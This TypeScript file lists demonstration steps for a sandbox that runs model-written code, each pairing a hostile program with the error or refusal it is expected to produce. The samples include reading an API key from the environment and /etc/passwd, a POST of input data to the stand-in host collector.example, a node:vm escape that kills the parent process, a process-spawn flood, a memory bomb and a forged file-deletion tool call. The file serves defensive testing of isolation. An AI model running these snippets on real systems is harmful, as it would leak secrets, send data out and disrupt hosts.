/**
 * The steps of the tour as data: what is tried, the program, and what must come of it.
 * Each expectation is checked against the real observation: a step that cannot fail says nothing.
 */

import type { CallLimits, JsonValue, Language, Status } from "../types.ts";

/** What an observation must hold. */
export interface Expectation {
  readonly status: Status;
  readonly error?: string;
  readonly line?: number;
  readonly result?: JsonValue;
  readonly stdout?: readonly string[];
}

export interface TourStep {
  readonly title: string;
  /** Id of the threat that the step is an instance of. */
  readonly threat?: string;
  readonly code: string;
  /** Default: JavaScript. */
  readonly language?: Language;
  /** Default: the tool of the language. */
  readonly tool?: string;
  /** `allow-all` takes the policy away, so that the layers behind it show. Default: the tour's policy. */
  readonly policy?: "allow-all";
  readonly input?: JsonValue;
  readonly limits?: Partial<CallLimits>;
  readonly expect: Expectation;
  /** What the observation shows. */
  readonly remark: string;
}

export const TOUR_STEPS: readonly TourStep[] = [
  {
    title: "An ordinary program",
    code: "const prices = input.map((item) => item.price);\nconsole.log(prices.length, 'prices');\nreturn { total: prices.reduce((sum, price) => sum + price, 0) };",
    input: [{ price: 20 }, { price: 22 }],
    expect: { status: "ok", result: { total: 42 }, stdout: ["2 prices"] },
    remark: "What was returned and what was printed. The rows came in as `input`, from the host, not from the model.",
  },
  {
    title: "Read the host's environment",
    threat: "host-secrets",
    policy: "allow-all",
    code: "return process.env.OPENAI_API_KEY;",
    expect: { status: "error", error: "ReferenceError", line: 1 },
    remark: "There is no process object in the isolate, and no secret in the environment of the worker around it.",
  },
  {
    title: "Read the host's files",
    threat: "host-secrets",
    policy: "allow-all",
    code: 'const fs = require("fs");\nreturn fs.readFileSync("/etc/passwd", "utf8");',
    expect: { status: "error", error: "ReferenceError", line: 1 },
    remark: "No module loader. Were there one: the worker may read its own files only.",
  },
  {
    title: "Send data out",
    threat: "exfiltration",
    policy: "allow-all",
    code: 'await fetch("https://collector.example/", {\n  method: "POST",\n  body: JSON.stringify(input),\n});',
    input: { customers: ["Ada", "Grace"] },
    expect: { status: "error", error: "ReferenceError", line: 1 },
    remark: "It may see the rows it was given. It has nothing to send them with.",
  },
  {
    title: "Climb out to the operating system",
    threat: "os-access",
    policy: "allow-all",
    code: 'const host = this.constructor.constructor("return process")();\nhost.kill(host.ppid);',
    expect: { status: "error", error: "ReferenceError" },
    remark: "The classic escape from node:vm. Here the constructor belongs to another heap, and finds nothing in it.",
  },
  {
    title: "Never end",
    threat: "endless-work",
    policy: "allow-all",
    code: 'console.log("still here");\nwhile (true);',
    expect: { status: "timeout", error: "Timeout", stdout: ["still here"] },
    remark: "Stopped at its limit of one second. The line it had printed is kept.",
  },
  {
    title: "Never end, where no engine can interrupt",
    threat: "endless-work",
    policy: "allow-all",
    code: 'console.log("stuck in a built-in");\nArray.prototype.reverse.call({ length: 2 ** 53 - 1 });',
    expect: { status: "timeout", error: "Timeout", stdout: ["stuck in a built-in"] },
    remark: "V8's own time limit does not reach into a built-in. A supervisor thread killed the worker.",
  },
  {
    title: "A flood of processes",
    threat: "endless-work",
    policy: "allow-all",
    code: 'for (;;) require("child_process").spawn("yes");',
    expect: { status: "error", error: "ReferenceError", line: 1 },
    remark: "Nothing to spawn with, and the worker may start no process.",
  },
  {
    title: "A memory bomb",
    threat: "memory-bomb",
    policy: "allow-all",
    code: 'console.log("filling up");\nconst hoard = [];\nwhile (true) hoard.push(new Array(100_000).fill(hoard.length));',
    limits: { timeoutMs: 10_000 },
    expect: { status: "memory_limit", error: "MemoryLimit", stdout: ["filling up"] },
    remark: "Stopped at 64 MiB. The host did not notice; the next run gets a fresh worker.",
  },
  {
    title: "A program that does not parse",
    code: "const total = 40;\nreturn total +* 2;",
    expect: { status: "error", error: "SyntaxError", line: 2 },
    remark: "The model is told where, in its own source.",
  },
  {
    title: "A program that fails",
    code: 'const user = { name: "Ada" };\nconsole.log("hello", user.name);\nreturn user.address.city;',
    expect: { status: "error", error: "TypeError", line: 3, stdout: ["hello Ada"] },
    remark: "An error is data for the model: type, message, line, and what was printed. No stack, no host path.",
  },
  {
    title: "A tool that was never offered",
    threat: "forged-call",
    tool: "delete_all_files",
    code: "/home",
    expect: { status: "rejected", error: "ToolNotAllowed" },
    remark: "Refused before anything was looked at, and still answered: a call without an answer would break the chat.",
  },
  {
    title: "An import that the policy refuses",
    code: 'const { hostname } = require("os");\nreturn hostname();',
    expect: { status: "denied", error: "PolicyDenied" },
    remark:
      "Nothing ran. The policy reads what the code mentions; it tells the model what to do instead, and is never the boundary.",
  },
];
